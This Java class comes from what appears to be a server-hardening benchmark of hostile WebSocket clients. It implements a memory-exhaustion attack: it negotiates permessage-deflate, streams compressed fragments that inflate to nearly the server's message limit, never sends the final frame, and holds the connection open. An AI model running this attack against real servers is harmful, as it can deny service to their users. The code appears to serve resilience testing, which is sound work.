package dev.weft.benchmarks.hostile;

import java.io.IOException;

/**
 * permessage-deflate, then the opening fragments of one compressed binary message, never the
 * last: all the compressed data, split into frames none of which has FIN set. What it inflates to
 * is just under the server's message limit, so a server that keeps inflated output for unfinished
 * messages holds nearly a whole limit's worth for each such connection until it gives up on it.
 */
final class CompressedPartial implements Attack {

    static final String EXTENSION = "permessage-deflate";
    private static final int FRAGMENT = 16 * 1024;

    private final String path;
    private final byte[] compressed;

    /**
     * @param inflated how many bytes the message's fragments inflate to
     */
    CompressedPartial(String path, long inflated) {
        this.path = path;
        this.compressed = Compressed.deflatedZeros(inflated);
    }

    @Override
    public void play(RawWebSocket socket, Run run) throws IOException, ConnectionEnded {
        Attack.requireAgreed(socket.upgrade(path, EXTENSION), EXTENSION);
        for (int from = 0; from < compressed.length; from += FRAGMENT) {
            boolean first = from == 0;
            // "[RSV1] is set only on the first frame of a compressed message" (RFC 7692 §6).
            socket.write(ClientFrames.frame(false, first, first ? ClientFrames.BINARY : ClientFrames.CONTINUATION,
                    compressed, from, Math.min(compressed.length, from + FRAGMENT)));
        }
        while (!run.over()) {
            socket.poll(HOLD_POLL);
        }
    }
}
